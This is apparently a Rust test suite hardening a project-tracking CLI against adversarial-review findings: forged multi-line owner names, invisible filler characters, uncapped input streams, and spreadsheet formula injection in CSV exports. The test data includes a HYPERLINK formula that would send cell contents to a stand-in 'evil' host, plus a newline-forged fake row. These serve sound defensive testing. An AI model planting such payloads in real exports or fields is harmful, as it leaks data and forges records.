//! Hardening, through the built binary (the adversarial review's F8–F11, F16, F20): names
//! are one visible line within their limit, every input stream is read with a cap, every
//! CSV is safe for Excel, and status, progress and dates agree.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support::cli;

use cli::{Db, stderr};
use std::io::Write;
use std::process::Stdio;
use std::time::{Duration, Instant};

#[test]
fn single_line_fields_refuse_line_breaks_fillers_and_excess() {
    let db = Db::new();
    let forged = "王敏\n  #99 2/1    伪造事项  FAKE ROW";
    for args in [
        vec!["set", "11", "--owner", forged],
        vec!["set", "11", "--owner", "王敏\u{3164}"],
        vec!["dept", "11", "--co", forged],
        vec!["milestone", "add", "11", "--due", "2026-04-01", forged],
        vec!["set", "11", "--owner", &"王".repeat(65)],
    ] {
        let err = db.fails(&args);
        assert!(err.contains("nothing was saved"), "{args:?}: {err}");
    }
    let err = db.fails(["set", "11", "--owner", forged]);
    assert!(err.contains("one line"), "{err}");
    let err = db.fails(["set", "11", "--owner", "王敏\u{3164}"]);
    assert!(err.contains("U+3164"), "{err}");
    // A forged author is refused before anything is opened for writing.
    let out = db
        .as_user(forged)
        .args(["note", "11", "x"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    // Nothing reached the item.
    let shown = db.show(11);
    assert!(shown["owner"].is_null(), "{shown}");
    assert!(
        shown["milestones"]
            .as_array()
            .unwrap()
            .iter()
            .all(|m| m["origin"] != "user")
    );
    assert!(!db.ok(["show", "11"]).contains("FAKE ROW"));
    // Exactly at the limit is fine; trailing spaces are trimmed.
    db.ok(["set", "11", "--owner", &format!("{}  ", "王".repeat(64))]);
    assert_eq!(db.show(11)["owner"].as_str().unwrap().chars().count(), 64);
}

#[test]
fn streams_are_read_with_a_cap() {
    let db = Db::new();
    db.ok(["list", "--plan", "zz"]);
    let quick = |args: &[&str], input: Stdio| {
        let started = Instant::now();
        let out = db.command(args).stdin(input).output().unwrap();
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{args:?} took {:?}",
            started.elapsed()
        );
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        stderr(&out)
    };
    let zero = || Stdio::from(std::fs::File::open("/dev/zero").unwrap());
    let err = quick(&["note", "1", "-"], zero());
    assert!(err.contains("larger than"), "{err}");
    let err = quick(&["load", "-"], zero());
    assert!(err.contains("not a plantrack dump"), "{err}");
    let err = quick(&["import", "--dry-run", "/dev/zero"], Stdio::null());
    assert!(err.contains("16") || err.contains("large"), "{err}");
    // A note over the limit of 20,000 characters, given as an argument or on stdin.
    let long = "长".repeat(20_001);
    let err = db.fails(["note", "1", &long]);
    assert!(err.contains("20000"), "{err}");
    let mut child = db
        .command(["note", "1", "-"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(long.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn every_csv_starts_with_a_bom_and_keeps_formulas_as_text() {
    let db = Db::new();
    db.ok([
        "set",
        "1",
        "--owner",
        "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
    ]);
    db.ok(["set", "2", "--owner", "@SUM(1+1)"]);
    for by in ["owner", "department", "chapter", "plan"] {
        let csv = db.ok(["summary", "--by", by, "--format", "csv"]);
        assert!(csv.starts_with('\u{feff}'), "{by}: no BOM");
        for line in csv.lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('\u{feff}').trim_start_matches('"');
                assert!(
                    !cell.starts_with(['=', '+', '@']),
                    "{by}: formula cell {cell:?} in {line}"
                );
            }
        }
    }
    let csv = db.ok(["summary", "--by", "owner", "--format", "csv"]);
    assert!(
        csv.contains("'=HYPERLINK") && csv.contains("'@SUM"),
        "{csv}"
    );
}

#[test]
fn status_progress_and_dates_agree() {
    let db = Db::new();
    let err = db.fails(["set", "9", "--status", "done", "--progress", "10"]);
    assert!(err.contains("100%"), "{err}");
    db.ok(["set", "9", "--progress", "60"]);
    let err = db.fails(["set", "9", "--status", "not_started", "--progress", "60"]);
    assert!(err.contains("0%"), "{err}");
    // Marking it not started (alone) takes its progress back to 0, and says so.
    let out = db.ok(["set", "9", "--status", "not_started"]);
    assert!(out.contains("60% → 0%"), "{out}");
    let err = db.fails(["set", "9", "--due", "0000-01-01"]);
    assert!(err.contains("YYYY-MM-DD"), "{err}");
    db.ok(["set", "9", "--start", "2026-06-01"]);
    let err = db.fails(["set", "9", "--due", "2026-01-01"]);
    assert!(err.contains("before the start"), "{err}");
    assert!(db.show(9)["due_on"].is_null());
}

#[test]
fn change_times_follow_change_order() {
    let db = Db::new();
    for n in 0..5 {
        db.ok(["set", "5", "--progress", &(10 + n).to_string()]);
    }
    let history = db.json(["history", "5", "--json"]);
    let mut last: Option<(i64, String)> = None;
    for entry in history.as_array().unwrap().iter().rev() {
        let now = (
            entry["change"].as_i64().unwrap(),
            entry["at"].as_str().unwrap().to_string(),
        );
        if let Some(before) = &last {
            assert!(
                now.0 >= before.0 && now.1 >= before.1,
                "{before:?} then {now:?}"
            );
        }
        last = Some(now);
    }
}
